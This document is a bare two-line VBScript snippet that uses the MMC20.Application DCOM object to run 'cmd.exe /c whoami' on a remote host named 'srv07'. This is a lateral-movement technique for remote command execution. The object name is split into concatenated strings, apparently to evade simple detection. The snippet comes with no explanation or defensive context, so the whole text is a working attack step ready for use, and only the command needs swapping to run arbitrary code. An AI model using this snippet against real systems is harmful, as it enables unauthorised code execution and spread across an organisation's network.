Set m = CreateObject("MMC20." & "Application", "srv07")
m.Document.ActiveView.ExecuteShellCommand "cmd.exe", "", "/c whoami", "7"
